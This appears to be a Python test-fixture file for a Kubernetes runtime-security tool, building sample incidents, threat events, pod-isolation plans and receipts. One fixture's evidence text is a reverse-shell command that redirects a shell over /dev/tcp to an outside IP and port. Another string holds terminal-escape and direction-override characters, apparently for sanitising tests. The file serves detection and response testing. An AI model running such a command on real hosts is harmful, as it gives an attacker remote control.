"""Incidents as workflows answer them, for what only shows them."""

from datetime import UTC, datetime, timedelta

from signals.decisions import Decision, Inverse, OnExpiry, PlannedAction, Term, Tier
from signals.entities import ClusterRef, Entity
from signals.evidence import Evidence
from signals.incidents import (
    ActionSummary,
    Edge,
    Incident,
    IncidentState,
    Investigation,
    Moment,
    Node,
    Summary,
    WaitingFor,
)
from signals.plans import ActionPlan, ObjectRef, Plan, Write, WriteKind
from signals.receipts import ActionState, Check, Receipt, Result
from signals.threats import Mode, Severity, ThreatEvent

NOW = datetime(2026, 5, 4, 3, 16, tzinfo=UTC)
OPENED = NOW - timedelta(minutes=4)
CLUSTER = ClusterRef(name="local", uid="c-1")
POD = Entity(cluster=CLUSTER, kind="Pod", namespace="shop", name="web-0", uid="u-1")
NODE = Entity(cluster=CLUSTER, kind="Node", name="node-1", uid="u-2")
ID = "shop-web-0-1234abcd"
EVIL = "\x1b[2Jevil \u202etxt [red]not markup[/red]"


def waiting(roles: tuple[str, ...] = ("oncall", "lead")) -> WaitingFor:
    return WaitingFor(
        kind="approve the plan", plan_hash="f" * 64, deadline=NOW + timedelta(minutes=11), roles=roles,
        target_uids=("u-1",),
    )  # fmt: skip


def summary(
    state: IncidentState = IncidentState.CONTAINED,
    action: ActionState = ActionState.UNVERIFIED,
    waits: WaitingFor | None = None,
    title: str = "Shell redirected to the network in web-0",
) -> Summary:
    done = ActionSummary(
        id="a-1", type="isolate_pod", target=str(POD), state=action, expires_at=NOW + timedelta(hours=24)
    )
    return Summary(
        id=ID, title=title, state=state, tier=3, severity=Severity.CRITICAL, confidence=0.87, mode=Mode.AUTO,
        opened_at=OPENED, entities=(str(POD),), techniques=("T1059",), actions=(done,), waiting_for=waits,
    )  # fmt: skip


def planned() -> ActionPlan:
    action = PlannedAction(
        id="a-1", type="isolate_pod", targets=(POD,), index=0, ttl_seconds=86400, on_expiry=OnExpiry.ASK,
        summary="isolate pod/shop/web-0",
    )  # fmt: skip
    policy = ObjectRef(
        group="networking.k8s.io", version="v1", resource="networkpolicies", namespace="shop", name="fb-1"
    )
    return ActionPlan(
        action=action, writes=(Write(kind=WriteKind.CREATE, ref=policy),), inverse=Inverse.EXACT,
        summary="isolate pod/shop/web-0", residual=("connections that are open already stay open",),
    )  # fmt: skip


def receipt(state: ActionState) -> Receipt:
    plan = planned()
    return Receipt(
        action=plan.action, incident=ID, cluster=CLUSTER, plan=plan, plan_hash="f" * 64, state=state,
        applied_at=OPENED, expires_at=NOW + timedelta(hours=24),
        checks=(Check(what="flow", result=Result.UNKNOWN, how="nothing enforces policies here"),),
    )  # fmt: skip


def event(summary: str = "sh -i >& /dev/tcp/203.0.113.7/4444") -> ThreatEvent:
    seen = Evidence(source="falco", summary=summary, observed_at=OPENED, sha256="0" * 64)
    return ThreatEvent(
        id="e-1", cluster=CLUSTER, agent="runtime-guardian", detector="redirect", rule="Redirect STDOUT",
        title="Shell redirected to the network", technique="T1059", severity=Severity.CRITICAL, confidence=0.87,
        subject=POD, observed_at=OPENED, count=3, evidence=(seen,), caveats=("the clock of the node is off",),
    )  # fmt: skip


def decision() -> Decision:
    term = Term(name="detector", value="0.87", effect="= 0.87", reason="a shell that speaks to the network")
    return Decision(
        incident=ID, cluster=CLUSTER, revision=1, tier=Tier.ISOLATE, confidence=0.87, severity=Severity.CRITICAL,
        mode=Mode.AUTO, title="Shell redirected", terms=(term,), actions=(planned().action,), execute=True,
        policy_digest="d" * 64, events=("e-1",), decided_at=OPENED,
    )  # fmt: skip


def incident(
    state: IncidentState = IncidentState.CONTAINED,
    action: ActionState = ActionState.UNVERIFIED,
    waits: WaitingFor | None = None,
    title: str = "Shell redirected to the network in web-0",
) -> Incident:
    investigation = Investigation(
        nodes=(Node(id="p", entity=POD), Node(id="n", entity=NODE)),
        edges=(Edge(source="p", target="n", type="runs-on"),),
        findings=("2 policies select the pod",),
        missing=("events: the API server forbids it",),
    )
    return Incident(
        summary=summary(state, action, waits, title), cluster=CLUSTER, events=(event(),), decisions=(decision(),),
        plan=Plan(incident=ID, policy_digest="d" * 64, actions=(planned(),), hash="f" * 64),
        receipts=(receipt(action),), investigation=investigation,
        timeline=(Moment(at=OPENED, what="isolated", detail="web-0"),),
    )  # fmt: skip
